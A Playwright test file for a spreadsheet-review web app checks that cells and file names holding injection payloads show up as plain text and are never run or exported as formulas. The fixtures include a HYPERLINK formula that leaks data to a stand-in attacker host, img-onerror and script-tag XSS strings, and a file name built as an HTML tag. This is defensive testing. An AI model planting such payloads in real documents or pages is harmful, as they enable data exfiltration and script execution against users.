import { readFileSync } from 'node:fs';
import type { Download, Page } from '@playwright/test';
import { readXlsx } from 'hucre/xlsx';
import { importOnly, review, text } from './review';
import { expect, openLive, test } from './live';
import { dialog, patience, showHistory, showOverview, unitRow } from './screen';

const formula = '=HYPERLINK("http://evil.example/?leak=1";"Tân An")';
const image = '<img src=x onerror="globalThis.wasHit=1">';
const script = '<script>globalThis.wasHit=1</script>';

/** Requests that leave the machine, and whether anything of a file ran. */
async function watched(page: Page) {
	const strangers: string[] = [];
	page.on('request', (request) => {
		if (!/^(http:\/\/(localhost|127\.0\.0\.1)[:/]|blob:|data:)/.test(request.url()))
			strangers.push(request.url());
	});
	page.on('dialog', (opened) => {
		strangers.push(`dialog: ${opened.message()}`);
		void opened.dismiss();
	});
	return async () => {
		expect(await page.evaluate(() => Reflect.get(globalThis, 'wasHit') as unknown)).toBeUndefined();
		expect(strangers).toEqual([]);
	};
}

async function downloaded(page: Page, press: () => Promise<void>): Promise<Buffer> {
	const [download] = await Promise.all([page.waitForEvent('download'), press()]);
	return readFileSync(await (download as Download).path());
}

test('formulas, HTML and scripts in cells are text on the review and in what goes back to the sender', async ({
	page,
}) => {
	const harmless = await watched(page);
	await openLive(page);
	const quoted = (value: string) => `"${value.replaceAll('"', '""')}"`;
	await review(
		page,
		text(
			'tan-cong.csv',
			[
				'KẾT QUẢ THCS NĂM 2023;;;',
				`Đơn vị;Số HS tốt nghiệp;Số HS vào học nghề;${quoted(script)}`,
				`${quoted(formula)};1000;200;${quoted(image)}`,
				`${quoted(image)};900;100;=1+1`,
				`Đức Hòa;@SUM(1+1);100;-2+3`,
			].join('\n'),
		),
	);
	const grid = page.getByRole('grid');
	for (const shown of [formula, image, script, '@SUM(1+1)', '=1+1']) await expect(grid).toContainText(shown);
	await page.getByText('Trả lại cho đơn vị').or(page.locator('summary').last()).first().click();
	const bytes = await downloaded(page, () => page.getByRole('button', { name: /\(\.xlsx\)/ }).click());
	const { sheets } = await readXlsx(new Uint8Array(bytes));
	const values = (sheets[0]?.rows ?? []).flat();
	for (const written of [formula, image, '@SUM(1+1)', '=1+1']) expect(values).toContain(written);
	const xml = Buffer.from(bytes).toString('latin1');
	expect(xml).not.toContain('<f>');
	await harmless();
});

test('a file named like a tag is a name wherever it is told', async ({ page }) => {
	const harmless = await watched(page);
	const name = '<img src=x onerror=globalThis.wasHit=1>.csv';
	await openLive(page);
	await importOnly(
		page,
		text(name, 'KẾT QUẢ THCS NĂM 2023;;\nĐơn vị;Số HS tốt nghiệp;Số HS vào học nghề\nThủ Thừa;1000;200\n'),
	);
	await showOverview(page);
	await expect(unitRow(page, 'thu-thua')).toContainText('20,00', patience);
	await unitRow(page, 'thu-thua').getByRole('button').first().click();
	await expect(dialog(page)).toContainText(name);
	await page.keyboard.press('Escape');
	await showHistory(page);
	await expect(page.locator('article[data-import]')).toContainText(name);
	await harmless();
});
